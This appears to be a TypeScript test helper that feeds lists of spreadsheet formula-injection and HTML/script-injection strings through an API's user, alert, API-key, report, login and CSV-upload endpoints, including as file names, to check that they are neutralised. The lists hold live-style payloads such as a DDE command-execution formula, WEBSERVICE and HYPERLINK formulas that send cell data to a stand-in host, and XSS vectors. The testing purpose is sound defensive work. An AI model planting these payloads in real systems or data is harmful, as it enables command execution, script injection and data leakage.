import type { Person, TestApi } from '../api.ts';
import { eventually } from '../eventually.ts';
import { ageStepUp } from '../second-factor.ts';

const ENDED = ['completed', 'failed', 'quarantined', 'cancelled'];

/** Texts that a spreadsheet takes for formulas, or for the beginning of one. */
export const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1', "'=1+1", '""=1+1'],
  ...[
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    ';=1+1',
    ',=1+1',
    'a;=1+1',
    'a,=1+1',
    'a\t=1+1',
    'a|=1+1',
    'a\n=1+1',
    '\u00a0=1+1',
  ],
  ...[
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    '=IMPORTXML("http://192.0.2.1/","//a")',
    '=WEBSERVICE("http://192.0.2.1/")',
  ],
  ...['=DDE("soffice","x","y")', '\u200b=1+1', '\ufeff=1+1', '%3D1+1', '=\u{1d7cf}+1'],
];

/** Texts that a page takes for markup or script. */
export const MARKUP = [
  ...[
    '<img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>',
    'javascript:alert(1)',
    '"><svg onload=alert(1)>',
  ],
  ...[
    "'-alert(1)-'",
    '<iframe src="https://192.0.2.1/">',
    '<link rel=stylesheet href=//192.0.2.1/x>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for templates of others
    '${alert(1)}{{7*7}}',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<base href="https://192.0.2.1/">',
    '<style>@import "//192.0.2.1/x"</style>',
    '&lt;b&gt;',
  ],
  ...[
    '<math><mtext><style><img src=x onerror=alert(1)>',
    '\u202e<b>',
    '<form action=//192.0.2.1><button>',
    'data:text/html,<script>alert(1)</script>',
  ],
];

/** Brings the texts in by every way that people and logs have, through the API and its workers; `uploads` are what came of the files. */
export async function fillWith(
  api: TestApi,
  { access_token: token, id }: Person,
  texts: readonly string[],
): Promise<string[]> {
  const post = (path: string, body: unknown) => api.call('POST', path, { token, body });
  for (const [at, text] of texts.entries()) {
    await post('/api/v1/users', {
      email: `laden-${at}-${texts.length}@bank.example`,
      name: text,
      role: 'readonly_user',
    });
    await post('/api/v1/security/alerts', {
      ...{ title: text.slice(0, 200), description: text, severity: 'critical', client: `10.66.0.${at + 1}` },
      evidence: { [text]: text, note: text },
    });
    await post('/api/v1/api-keys', { name: text, permissions: ['network:read'], expires_in_days: 1 });
    await post('/api/v1/reports', { title: text });
    await api.call('POST', '/api/v1/auth/login', {
      body: { email: text, password: text },
      headers: { 'user-agent': asHeader(text) },
    });
  }
  // Refusals have a reason of their own in the log.
  await ageStepUp(api, id);
  await post('/api/v1/users', { email: 'x@bank.example', name: 'x', role: 'readonly_user' });
  const files: string[] = [];
  for (const [at, text] of texts.entries()) {
    const answer = await uploadText(api, token, text, at);
    if (answer.status !== 202) continue;
    const read = async () => (await api.call('GET', answer.body.status_url, { token })).body;
    await eventually(read, ({ state }: { state: string }) => ENDED.includes(state), { milliseconds: 60_000 });
    files.push(answer.body.file_id);
  }
  return files;
}

/** A log with the text as application, user, action and file name, and in lines that are rejected. */
function uploadText(api: TestApi, token: string, text: string, at: number) {
  const cell = `"${text.replaceAll('"', '""')}"`;
  const lines = [
    'src_ip,dst_ip,dst_port,protocol,application,user,action,hostname',
    `10.77.0.1,10.77.1.${at + 1},443,tcp,${cell},${cell},${cell},${cell}`,
    `10.77.0.1,10.77.1.${at + 1},8443,tcp,https,u,allow,h`,
    `${cell},10.77.1.${at + 1},443,tcp,x,y,z,h`,
    `10.77.0.1,10.77.1.1,${cell},tcp,x,y,z,h`,
  ];
  const form = new FormData();
  form.set('file', new File([`${lines.join('\n')}\n`], `${text}.csv`));
  return api.call('POST', '/api/v1/files/upload', { token, raw: form });
}

function asHeader(text: string): string {
  return Buffer.from(text)
    .toString('latin1')
    .replace(/[^\x20-\x7e]/g, '?');
}
